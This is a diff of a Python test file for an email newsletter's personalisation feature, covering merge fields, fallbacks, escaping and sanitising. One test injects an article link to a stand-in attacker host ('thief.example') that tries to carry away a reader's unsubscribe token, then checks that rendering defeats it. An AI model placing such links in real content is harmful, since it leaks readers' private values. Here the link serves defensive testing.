@@ -11,6 +11,7 @@ from newsletter.issues.edition import Edition
 from newsletter.rendering import personalise
 from newsletter.rendering.results import Rendered
 from tests.rendering import editions
+from tests.tokens import TOKENS
 
 URL = "https://news.example.org/u/t0ken/"
 ADA = personalise.values_for(name="Ada <b>&", unsubscribe_url=URL)
@@ -19,10 +20,10 @@ Render = Callable[[Edition], Rendered]
 
 
 def test_a_field_becomes_the_readers_value_or_its_fallback() -> None:
-    text = personalise.merge_fields("Hi {{name|dear friend}}, {{ name }}!")
-    assert personalise.fill_text(text, ADA) == "Hi Ada <b>&, Ada <b>&!"
-    assert personalise.fill_html(text, ADA) == "Hi Ada &lt;b&gt;&amp;, Ada &lt;b&gt;&amp;!"
-    assert personalise.fill_text(text, NOBODY) == "Hi dear friend, !"
+    text = TOKENS.merge_fields("Hi {{name|dear friend}}, {{ name }}!")
+    assert TOKENS.fill_text(text, ADA) == "Hi Ada <b>&, Ada <b>&!"
+    assert TOKENS.fill_html(text, ADA) == "Hi Ada &lt;b&gt;&amp;, Ada &lt;b&gt;&amp;!"
+    assert TOKENS.fill_text(text, NOBODY) == "Hi dear friend, !"
 
 
 @pytest.mark.parametrize(
@@ -30,8 +31,8 @@ def test_a_field_becomes_the_readers_value_or_its_fallback() -> None:
 )
 def test_whatever_is_not_on_the_list_stays_as_written(text: str) -> None:
     """Threat 15"""
-    kept = personalise.merge_fields(text)
-    assert kept == text or personalise.fill_text(kept, NOBODY) == "{{name|"
+    kept = TOKENS.merge_fields(text)
+    assert kept == text or TOKENS.fill_text(kept, NOBODY) == "{{name|"
 
 
 def test_fields_work_in_subject_preheader_and_introduction_only(rendered: Render) -> None:
@@ -44,23 +45,23 @@ def test_fields_work_in_subject_preheader_and_introduction_only(rendered: Render
             stories=(story,),
         )
     )
-    assert personalise.fill_text(mail.subject, ADA) == "For Ada <b>&"
-    html = personalise.fill_html(mail.html, ADA)
+    assert TOKENS.fill_text(mail.subject, ADA) == "For Ada <b>&"
+    html = TOKENS.fill_html(mail.html, ADA)
     assert f'href="{URL}"' in html
     assert "<bdi>Ada &lt;b&gt;&amp;</bdi>" in html
     assert "Hello {{name}}" in html
-    assert URL in personalise.fill_text(mail.text, ADA).split("-----")[0]
+    assert URL in TOKENS.fill_text(mail.text, ADA).split("-----")[0]
 
 
 def test_an_article_cannot_carry_a_readers_values_away(rendered: Render) -> None:
     """Threat 15: the tokens are no secret, so text from outside that looks like one is broken up."""
-    token = personalise.UNSUBSCRIBE_URL
+    token = TOKENS.unsubscribe_url
     body = f'<p><a href="https://thief.example/?{token}">{token}</a> kq7z<b>unsubscribe</b>xz7qk</p>'
     story = replace(editions.ENGLISH.stories[3], body=body, title=token, standfirst=token.upper())
     mail = rendered(replace(editions.ENGLISH, stories=(story,), tagline=token))
     assert mail.html.count(token) == 1
     assert f"thief.example/?{token}" not in mail.text
-    assert personalise.fill_html(mail.html, ADA).count(URL) == 1
+    assert TOKENS.fill_html(mail.html, ADA).count(URL) == 1
 
 
 @given(st.text(max_size=60), st.text(max_size=60))
@@ -72,17 +73,17 @@ def test_values_never_bring_line_breaks_controls_or_turned_directions(name: str,
     assert len(values.name) <= personalise.MAX_NAME
 
 
-@given(st.lists(st.one_of(st.text(max_size=20), st.just(personalise.NAME), st.just(personalise.UNSUBSCRIBE_URL))))
+@given(st.lists(st.one_of(st.text(max_size=20), st.just(TOKENS.name()), st.just(TOKENS.unsubscribe_url))))
 def test_splitting_loses_nothing(parts: list[str]) -> None:
     text = "".join(parts)
-    split = personalise.split(text)
+    split = TOKENS.split(text)
     assert "".join(str(part) for part in split) == text
     assert "" not in split
 
 
 @given(st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="{}|\r\n"), max_size=60))
 def test_a_fallback_in_any_script_survives(fallback: str) -> None:
-    text = personalise.merge_fields(f"{{{{name|{fallback}}}}}")
-    assert personalise.fill_text(text, NOBODY) == fallback.strip()
+    text = TOKENS.merge_fields(f"{{{{name|{fallback}}}}}")
+    assert TOKENS.fill_text(text, NOBODY) == fallback.strip()
     assert text.isascii()
     assert text.isalnum()
